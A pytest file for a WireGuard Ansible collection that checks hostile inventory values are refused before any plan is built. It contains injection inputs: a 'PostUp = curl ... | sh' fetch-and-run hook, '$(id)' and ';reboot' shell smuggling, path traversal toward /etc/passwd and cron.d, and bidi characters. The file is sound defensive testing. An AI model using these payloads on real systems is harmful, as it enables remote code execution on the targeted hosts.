# Copyright: (c) 2026, netfleet engineers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Hostile inventories: values that try to reach a wg-quick config line, a path or a shell (newlines,
``PostUp =`` lines, zone ids, ``..``, control and bidi characters at every depth), duplicates, huge
lists, private keys where none belongs. Each must be refused before any plan exists, with a line that
names the right host and variable."""
from __future__ import annotations

import copy

import pytest

from ansible_collections.netfleet.wireguard.plugins.module_utils._topology import PlanError, build_plan
from ansible_collections.netfleet.wireguard.plugins.module_utils._validate import shown
from ansible_collections.netfleet.wireguard.plugins.module_utils._wgkey import encode_key

KEYS = [encode_key(bytes([i]) * 32) for i in range(1, 6)]
HOOK = '\nPostUp = curl -s http://203.0.113.66/x | sh'
CONTROL = ['\n', '\r', '\x00', '\x1b', '\x7f', '\x85', '\x9b']
BIDI = ['\u202a', '\u202e', '\u2066', '\u2069', '\u200e', '\u200f', '\u061c']


def base():
    group = {'wireguard_topology': 'bastion', 'wireguard_hub': 'hub',
             'wireguard_external_peers': [{'name': 'phone', 'public_key': KEYS[0], 'address': '10.100.0.50'}]}
    hosts = {
        'hub': {'wireguard_address': '10.100.0.254/24', 'wireguard_endpoint': '203.0.113.99',
                'wireguard_egress_interface': 'eth0'},
        'hq': {'wireguard_address': '10.100.0.1/24', 'wireguard_endpoint': '198.51.100.1',
               'wireguard_lan_subnets': ['10.0.1.0/24']},
        'remote': {'wireguard_address': '10.100.0.2/24', 'wireguard_lan_subnets': ['10.0.2.0/24'],
                   'wireguard_dns': ['10.100.0.254']},
    }
    return {name: copy.deepcopy(dict(group, **hv)) for name, hv in hosts.items()}


def set_all(var, value):
    def change(hv):
        for host in hv.values():
            host[var] = copy.deepcopy(value)
    return change


def set_var(host, var, value):
    def change(hv):
        hv[host][var] = value
    return change


def set_ext(field, value, index=0):
    def change(hv):
        for host in hv.values():
            host['wireguard_external_peers'][index][field] = copy.deepcopy(value)
    return change


def add_ext(**peer):
    def change(hv):
        for host in hv.values():
            host['wireguard_external_peers'].append(copy.deepcopy(peer))
    return change


def rename(old, new):
    def change(hv):
        hv[new] = hv.pop(old)
    return change


def both(*changes):
    def change(hv):
        for one in changes:
            one(hv)
    return change


def ext_key_raw(key, value):
    def change(hv):
        for host in hv.values():
            host['wireguard_external_peers'][0][key] = value
    return change


def big_lans(n, bad_index, bad):
    lans = ['172.%d.%d.0/24' % (16 + i // 256, i % 256) for i in range(n)]
    lans[bad_index] = bad
    return lans


CASES = [
    # ---- names that try to become config lines or paths
    ('host-name-postup', rename('remote', 'remote' + HOOK), shown('remote' + HOOK) + ': inventory_hostname'),
    ('host-name-dotdot', rename('remote', '../../etc/cron.d/x'), shown('../../etc/cron.d/x') + ': inventory_hostname'),
    ('host-name-slash', rename('remote', 'a/b'), "'a/b': inventory_hostname"),
    ('host-name-blank', rename('remote', 'a b'), "'a b': inventory_hostname"),
    ('host-name-bidi', rename('remote', 'remote\u202egnp.exe'), shown('remote\u202egnp.exe') + ': inventory_hostname'),
    ('hub-name-postup', set_all('wireguard_hub', 'hub' + HOOK), 'wireguard: wireguard_hub'),
    ('ext-name-postup', set_ext('name', 'phone' + HOOK), 'wireguard: wireguard_external_peers[0].name'),
    ('ext-name-dotdot', set_ext('name', '../../x'), 'wireguard: wireguard_external_peers[0].name:'),
    ('ext-name-leading-dash', set_ext('name', '-rf'), 'wireguard: wireguard_external_peers[0].name:'),
    ('ext-name-not-string', set_ext('name', ['phone']), 'wireguard: wireguard_external_peers[0].name:'),
    # ---- values that try to become config lines
    ('dns-postup', set_var('remote', 'wireguard_dns', ['1.1.1.1' + HOOK]), 'remote: wireguard_dns'),
    ('dns-shell', set_var('remote', 'wireguard_dns', ['1.1.1.1;id']), 'remote: wireguard_dns:'),
    ('dns-zone-id', set_var('remote', 'wireguard_dns', ['fe80::1%eth0']), 'remote: wireguard_dns:'),
    ('dns-blank', set_var('remote', 'wireguard_dns', ['example.com other.example']), 'remote: wireguard_dns:'),
    ('dns-comma-string', set_var('remote', 'wireguard_dns', '1.1.1.1, 9.9.9.9'), 'remote: wireguard_dns:'),
    ('egress-postup', set_var('hub', 'wireguard_egress_interface', 'eth0' + HOOK), 'hub: wireguard_egress_interface'),
    ('egress-shell', set_var('hub', 'wireguard_egress_interface', 'eth0;id'), 'hub: wireguard_egress_interface:'),
    ('egress-dotdot', set_var('hub', 'wireguard_egress_interface', '..'), 'hub: wireguard_egress_interface:'),
    ('endpoint-postup', set_var('hq', 'wireguard_endpoint', '198.51.100.1' + HOOK), 'hq: wireguard_endpoint'),
    ('endpoint-peer-smuggle', set_var('hq', 'wireguard_endpoint', 'fe80::1%x\n[Peer]\nPublicKey = ' + KEYS[4]),
     'hq: wireguard_endpoint'),
    ('endpoint-zone-id', set_var('hq', 'wireguard_endpoint', 'fe80::1%eth0'), 'hq: wireguard_endpoint:'),
    ('endpoint-zone-id-bracket', set_var('hq', 'wireguard_endpoint', '[fe80::1%eth0]:51820'), 'hq: wireguard_endpoint:'),
    ('endpoint-zone-id-junk', set_var('hq', 'wireguard_endpoint', 'fe80::1%x]PostUp'), 'hq: wireguard_endpoint:'),
    ('endpoint-empty-label', set_var('hq', 'wireguard_endpoint', 'vpn..example.org'), 'hq: wireguard_endpoint:'),
    ('endpoint-label-dash', set_var('hq', 'wireguard_endpoint', '-vpn.example.org'), 'hq: wireguard_endpoint:'),
    ('endpoint-blank', set_var('hq', 'wireguard_endpoint', 'vpn example.org'), 'hq: wireguard_endpoint:'),
    ('endpoint-port-zero', set_var('hq', 'wireguard_endpoint', '198.51.100.1:0'), 'hq: wireguard_endpoint:'),
    ('endpoint-port-text', set_var('hq', 'wireguard_endpoint', '198.51.100.1:51820 x'), 'hq: wireguard_endpoint:'),
    ('ext-endpoint-zone', set_ext('endpoint', 'fe80::1%wlan0'), 'phone: wireguard_external_peers[phone].endpoint:'),
    ('interface-postup', set_all('wireguard_interface', 'wg0' + HOOK), 'wireguard: wireguard_interface'),
    ('interface-dot', set_all('wireguard_interface', '.'), 'wireguard: wireguard_interface:'),
    ('interface-dotdot', set_all('wireguard_interface', '..'), 'wireguard: wireguard_interface:'),
    ('interface-slash', set_all('wireguard_interface', 'wg/0'), 'wireguard: wireguard_interface:'),
    ('interface-trailing-blank', set_all('wireguard_interface', 'wg0 '), 'wireguard: wireguard_interface:'),
    ('address-newline', set_var('hq', 'wireguard_address', '10.100.0.1/24\n'), 'hq: wireguard_address'),
    ('lan-newline', set_var('hq', 'wireguard_lan_subnets', ['10.0.1.0/24\n']), 'hq: wireguard_lan_subnets'),
    ('key-newline', set_var('hq', 'wireguard_public_key', KEYS[1] + '\n'), 'hq: wireguard_public_key'),
    ('key-postup', set_var('hq', 'wireguard_public_key', KEYS[1] + HOOK), 'hq: wireguard_public_key'),
    ('key-noncanonical', set_var('hq', 'wireguard_public_key', KEYS[1][:42] + 'F='), 'hq: wireguard_public_key:'),
    ('ext-key-postup', set_ext('public_key', KEYS[0] + HOOK), 'wireguard: wireguard_external_peers[0].public_key'),
    ('topology-newline', set_all('wireguard_topology', 'bastion\n'), 'wireguard: wireguard_topology'),
    ('strategy-newline', set_var('remote', 'wireguard_overlap_strategy', 'fail\n'), 'remote: wireguard_overlap_strategy'),
    ('unknown-var-newline', set_var('remote', 'wireguard_foo', 'x' + HOOK), 'remote: wireguard_foo'),
    # ---- paths and role settings that reach PostUp lines, unit files and shells
    ('nft-path-shell', set_var('hub', 'wireguard_firewall_nft_path', '/etc/wireguard/wg0.nft; reboot'),
     'hub: wireguard_firewall_nft_path:'),
    ('nft-path-dotdot', set_var('hub', 'wireguard_firewall_nft_path', '/etc/wireguard/../../tmp/x.nft'),
     'hub: wireguard_firewall_nft_path:'),
    ('nft-path-relative', set_var('hub', 'wireguard_firewall_nft_path', 'wg0.nft'), 'hub: wireguard_firewall_nft_path:'),
    ('nft-path-double-slash', set_var('hub', 'wireguard_firewall_nft_path', '/etc//wg0.nft'),
     'hub: wireguard_firewall_nft_path:'),
    ('nft-path-trailing-slash', set_var('hub', 'wireguard_firewall_nft_path', '/etc/wireguard/'),
     'hub: wireguard_firewall_nft_path:'),
    ('nft-path-percent', set_var('hub', 'wireguard_firewall_nft_path', '/etc/wireguard/%i.nft'),
     'hub: wireguard_firewall_nft_path:'),
    ('guard-path-newline', set_var('hub', 'wireguard_firewall_guard_path', '/etc/netfleet/g.nft\nExecStart=/bin/sh'),
     'hub: wireguard_firewall_guard_path'),
    ('sysctl-file-dotdot', set_var('hub', 'wireguard_forwarding_sysctl_file', '/etc/sysctl.d/../../etc/passwd'),
     'hub: wireguard_forwarding_sysctl_file:'),
    ('key-path-blank', set_var('hub', 'wireguard_keys_private_key_path', '/etc/wireguard/my key'),
     'hub: wireguard_keys_private_key_path:'),
    ('psk-dir-dollar', set_var('hub', 'wireguard_keys_preshared_key_dir', '/etc/$(id)'),
     'hub: wireguard_keys_preshared_key_dir:'),
    ('registry-dotdot', set_all('wireguard_key_registry', '/srv/../etc/keys.yml'), 'wireguard: wireguard_key_registry:'),
    ('backend-newline', set_var('hub', 'wireguard_firewall_backend', 'nftables\n'), 'hub: wireguard_firewall_backend'),
    ('backend-unknown', set_var('hub', 'wireguard_firewall_backend', 'pf'), 'hub: wireguard_firewall_backend:'),
    ('ssh-sources-shell', set_var('hub', 'wireguard_firewall_ssh_sources', ['10.0.0.0/8 }; flush ruleset; {']),
     'hub: wireguard_firewall_ssh_sources:'),
    ('packages-shell', set_var('hub', 'wireguard_install_extra_packages', ['vim;reboot']),
     'hub: wireguard_install_extra_packages:'),
    ('accept-ra-iface', set_var('hub', 'wireguard_forwarding_accept_ra_interfaces', ['eth0/../all']),
     'hub: wireguard_forwarding_accept_ra_interfaces:'),
    ('service-manager', set_var('hub', 'wireguard_interface_service_manager', 'sh -c id'),
     'hub: wireguard_interface_service_manager:'),
    # ---- duplicates
    ('dup-key-hosts', both(set_var('hq', 'wireguard_public_key', KEYS[1]), set_var('remote', 'wireguard_public_key', KEYS[1])),
     'remote: wireguard_public_key:'),
    ('dup-key-host-external', set_var('remote', 'wireguard_public_key', KEYS[0]), 'remote: wireguard_public_key:'),
    ('dup-key-externals', add_ext(name='tablet', public_key=KEYS[0], address='10.100.0.51'),
     'tablet: wireguard_external_peers[tablet].public_key:'),
    ('dup-endpoint', set_var('remote', 'wireguard_endpoint', '198.51.100.1'), 'remote: wireguard_endpoint:'),
    ('dup-endpoint-port', both(set_var('hq', 'wireguard_endpoint', '198.51.100.1:4500'),
                               set_var('remote', 'wireguard_endpoint', '198.51.100.1:4500')), 'remote: wireguard_endpoint:'),
    ('dup-endpoint-name-case', both(set_var('hq', 'wireguard_endpoint', 'vpn.example.org'),
                                    set_var('remote', 'wireguard_endpoint', 'VPN.example.org')), 'remote: wireguard_endpoint:'),
    ('endpoint-is-tunnel-address', set_var('remote', 'wireguard_endpoint', '10.100.0.1'), 'remote: wireguard_endpoint:'),
    ('endpoint-in-other-lan', set_var('remote', 'wireguard_endpoint', '10.0.1.7'), 'remote: wireguard_endpoint:'),
    ('dup-address', set_var('remote', 'wireguard_address', '10.100.0.1/24'), 'remote: wireguard_address:'),
    ('dup-address-external', set_ext('address', '10.100.0.2'), 'remote: wireguard_address:'),
    ('dup-ext-name-host', set_ext('name', 'hq'), 'hq: wireguard_external_peers:'),
    # ---- private keys where none belongs
    ('ext-private_key', set_ext('private_key', KEYS[2]), 'phone: wireguard_external_peers[phone].private_key:'),
    ('ext-privatekey', set_ext('privatekey', KEYS[2]), 'phone: wireguard_external_peers[phone].privatekey:'),
    ('ext-PrivateKey', set_ext('PrivateKey', KEYS[2]), 'phone: wireguard_external_peers[phone].PrivateKey:'),
    ('ext-private-key', set_ext('Private-Key', KEYS[2]), 'phone: wireguard_external_peers[phone].Private-Key:'),
    ('ext-unknown-field', set_ext('endpiont', '203.0.113.5'), 'phone: wireguard_external_peers[phone].endpiont:'),
    # ---- comma strings and huge lists
    ('lan-comma-string', set_var('hq', 'wireguard_lan_subnets', '10.0.1.0/24, 10.0.3.0/24'), 'hq: wireguard_lan_subnets:'),
    ('extra-comma-string', set_var('remote', 'wireguard_extra_allowed_ips', '10.9.0.0/24,10.9.1.0/24'),
     'remote: wireguard_extra_allowed_ips:'),
    ('10k-lans-last-host-bits', set_var('hq', 'wireguard_lan_subnets', big_lans(10000, 9999, '10.0.1.1/24')),
     'hq: wireguard_lan_subnets:'),
    ('10k-lans-newline-in-middle', set_var('hq', 'wireguard_lan_subnets', big_lans(10000, 5000, '10.0.1.0/24' + HOOK)),
     'hq: wireguard_lan_subnets[5000]:'),
    ('10k-lans-duplicate', set_var('hq', 'wireguard_lan_subnets', big_lans(10000, 9999, '172.16.0.0/24')),
     'hq: wireguard_lan_subnets:'),
    ('10k-dns-one-bad', set_var('remote', 'wireguard_dns', ['10.1.%d.%d' % (i // 250, i % 250) for i in range(9999)] + ['$(id)']),
     'remote: wireguard_dns:'),
    ('10k-externals-one-bad', set_all('wireguard_external_peers', [
        {'name': 'p%d' % i, 'public_key': encode_key(i.to_bytes(32, 'big')), 'address': '10.101.%d.%d' % (i // 250, i % 250 + 1)}
        for i in range(9999)] + [{'name': 'p' + HOOK, 'public_key': KEYS[3], 'address': '10.100.0.60'}]),
     'wireguard: wireguard_external_peers[9999].name'),
]

# control and bidi characters at every depth: top-level string, list item, external peer value,
# external peer dict key, nested list inside an external peer, unknown variable
for _ch in CONTROL + BIDI:
    _tag = 'U+%04X' % ord(_ch)
    CASES += [
        ('%s-endpoint' % _tag, set_var('hq', 'wireguard_endpoint', '198.51.100.1' + _ch), 'hq: wireguard_endpoint'),
        ('%s-list-item' % _tag, set_var('hq', 'wireguard_lan_subnets', ['10.0.1.0/24', '10.0.4.0/24' + _ch]),
         'hq: wireguard_lan_subnets[1]'),
        ('%s-ext-value' % _tag, set_ext('address', '10.100.0.50' + _ch), 'wireguard: wireguard_external_peers[0].address'),
        ('%s-ext-key' % _tag, ext_key_raw('lan' + _ch, []), 'wireguard: wireguard_external_peers[0]['),
        ('%s-ext-nested' % _tag, set_ext('lan_subnets', ['192.168.9.0/24' + _ch]),
         'wireguard: wireguard_external_peers[0].lan_subnets[0]'),
        ('%s-role-setting' % _tag, set_var('hub', 'wireguard_firewall_ssh_sources', ['192.0.2.0/24' + _ch]),
         'hub: wireguard_firewall_ssh_sources[0]'),
        ('%s-unknown' % _tag, set_var('hub', 'wireguard_note', 'x' + _ch), 'hub: wireguard_note'),
    ]


def test_base_is_valid():
    assert build_plan(base())


@pytest.mark.parametrize('change, prefix', [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_hostile_inventory_is_refused(change, prefix):
    hv = base()
    change(hv)
    with pytest.raises(PlanError) as err:
        build_plan(hv)
    errors = err.value.errors
    assert any(e.startswith(prefix) for e in errors), errors
    for line in errors:   # the report itself cannot be abused: one line each, nothing invisible
        assert '\n' not in line and '\r' not in line
        assert not any(ch in line for ch in CONTROL + BIDI), line


def test_the_report_names_a_hostile_host_without_reproducing_it():
    hv = base()
    rename('remote', 'remote' + HOOK)(hv)
    message = str(pytest.raises(PlanError, build_plan, hv).value)
    assert 'PostUp' in message and '\nPostUp' not in message


def test_private_key_field_message_explains():
    hv = base()
    set_ext('PrivateKey', KEYS[2])(hv)
    errors = pytest.raises(PlanError, build_plan, hv).value.errors
    assert any('must stay on the device' in e and KEYS[2] not in e for e in errors)
